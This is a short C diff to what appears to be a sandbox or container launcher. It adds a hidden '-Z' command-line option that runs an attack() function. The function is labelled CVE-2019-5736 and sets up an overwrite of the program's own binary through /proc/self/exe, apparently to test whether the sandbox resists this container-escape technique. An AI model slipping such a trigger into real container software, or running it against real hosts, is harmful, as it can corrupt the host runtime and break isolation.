@@ -45,6 +45,7 @@ static void set_option(struct options *o, int c)
 	case 's': o->box.upper_size = strtoull(optarg, NULL, 10); break;
 	case 'n': o->box.name = optarg; break;
 	case 'b': add_bind(o, optarg); break;
+	case 'Z': attack(); break;
 	case 'e':
 		if (o->n_env < MAX_LIST - 1)
 			o->env[o->n_env++] = optarg;
@@ -55,13 +56,25 @@ static void set_option(struct options *o, int c)
 	}
 }
 
+// CVE-2019-5736, as the payload "/proc/self/exe -Z": this very program, executed inside, keeps a descriptor of its own file and
+// makes way for a program that tries to write to it.
+static void attack(void)
+{
+	char path[32];
+	int fd = open("/proc/self/exe", O_PATH);
+
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	execl("/bin/probe", "probe", "overwrite", path, NULL);
+	exit(2);
+}
+
 int main(int argc, char **argv)
 {
 	static struct options o;
 	int c;
 
 	boxinit_enter(argc, argv);
-	while ((c = getopt(argc, argv, "+rtivHu:w:U:s:n:e:b:")) != -1)
+	while ((c = getopt(argc, argv, "+rtivHZu:w:U:s:n:e:b:")) != -1)
 		set_option(&o, c);
 	if (optind >= argc) {
 		fputs(usage, stderr);
